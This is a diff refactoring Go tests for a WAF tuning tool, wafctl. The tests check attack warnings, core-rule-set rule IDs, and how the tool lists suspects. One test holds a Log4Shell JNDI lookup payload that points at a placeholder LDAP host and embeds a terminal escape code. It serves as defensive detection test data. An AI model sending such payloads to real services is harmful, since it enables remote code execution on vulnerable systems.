@@ -6,6 +6,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
+	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/tune"
 	"github.com/stretchr/testify/require"
 )
 
@@ -54,14 +56,14 @@ func TestTuneWarnsOfAttacksAmongCleanRecords(t *testing.T) {
 				return
 			}
 			before, _, _ := strings.Cut(table.out, "REMOVES")
-			require.Contains(t, before, fmt.Sprintf("Before you exclude anything: %s look", count(len(c.why), "record")))
+			require.Contains(t, before, fmt.Sprintf("Before you exclude anything: %s look", cli.Count(len(c.why), "record")))
 			for _, why := range c.why {
 				require.Contains(t, before, why)
 			}
 			require.Equal(t, len(c.why), strings.Count(before, "GET /"), before)
 			require.Contains(t, table.out, "  ! ")
 			require.Contains(t, lines.out, `"attacks":`)
-			require.Contains(t, lines.err, "warning: attacks are likely in "+count(len(c.why), "record"))
+			require.Contains(t, lines.err, "warning: attacks are likely in "+cli.Count(len(c.why), "record"))
 			require.Contains(t, wafctl(strings.NewReader(c.records), nil, append(args, "--output", "seclang")...).out, "# Look first: the rule matched in ")
 		})
 	}
@@ -69,14 +71,14 @@ func TestTuneWarnsOfAttacksAmongCleanRecords(t *testing.T) {
 
 func TestRulesThatCountAsPreciseAreInTheCoreRuleSet(t *testing.T) {
 	got := wafctl(nil, nil, "rules", "--output", "json", "--blocking-paranoia", "4")
-	for id := range precise {
+	for id := range tune.Precise {
 		require.Contains(t, got.out, fmt.Sprintf(`"id":%d,`, id))
 	}
 }
 
 func TestTuneNamesTheFirstAttacksOnly(t *testing.T) {
-	got := wafctl(strings.NewReader(strings.Repeat(asked("192.0.2.1", "${jndi:ldap://x.example/\x1b[31m}"), maxSuspects+5)), nil, "tune", "-")
-	require.Equal(t, maxSuspects, strings.Count(got.out, "rule 944150 found Log4Shell"))
+	got := wafctl(strings.NewReader(strings.Repeat(asked("192.0.2.1", "${jndi:ldap://x.example/\x1b[31m}"), tune.MaxSuspects+5)), nil, "tune", "-")
+	require.Equal(t, tune.MaxSuspects, strings.Count(got.out, "rule 944150 found Log4Shell"))
 	require.Contains(t, got.out, "  and 5 more\n")
 	require.NotContains(t, got.out, "\x1b")
 }
